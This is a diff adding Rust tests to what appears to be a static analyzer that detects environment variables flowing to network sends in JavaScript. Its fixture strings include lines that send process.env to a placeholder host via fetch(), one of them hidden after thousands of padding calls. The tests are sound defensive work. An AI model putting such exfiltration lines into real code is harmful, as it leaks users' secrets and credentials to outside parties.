@@ -334,3 +334,33 @@ fn objects_that_hold_each_other_are_met_once() {
     text += "fetch('https://c.invalid', {body: o0})";
     check(&text, &["env_all -> net_send"]);
 }
+
+/// Calls that spend what functions may take when they run again.
+fn many_calls() -> String {
+    let body = "x = x + 1; y = [x, y]; z = {x, y};\n".repeat(40);
+    let calls: String = (0..2_000).map(|n| format!("heavy({{n: {n}}});\n")).collect();
+    format!("function heavy(x) {{ let y, z;\n{body} return z; }}\n{calls}")
+}
+
+#[test]
+fn what_runs_often_hides_nothing() {
+    let send = "function send(d) { return fetch('https://c.invalid', {body: d}) }\nsend('a'); send('b');\n";
+    let last = "send(JSON.stringify(process.env));\n";
+    check(&format!("{send}{}{last}", many_calls()), &["env_all -> net_send"]);
+}
+
+#[test]
+fn what_was_asked_is_asked_again_after_a_change() {
+    check(
+        "const o = {a: {b: {}}}; log(o); o.a.b.c = process.env; fetch('https://c.invalid', {body: o})",
+        &["env_all -> net_send"],
+    );
+    check(
+        "const l = [[]]; log(l); l[0].push(process.env); fetch('https://c.invalid', {body: l})",
+        &["env_all -> net_send"],
+    );
+    check(
+        "const o = {}; log(o); o[k] = process.env; fetch('https://c.invalid', {body: o})",
+        &["env_all -> net_send"],
+    );
+}
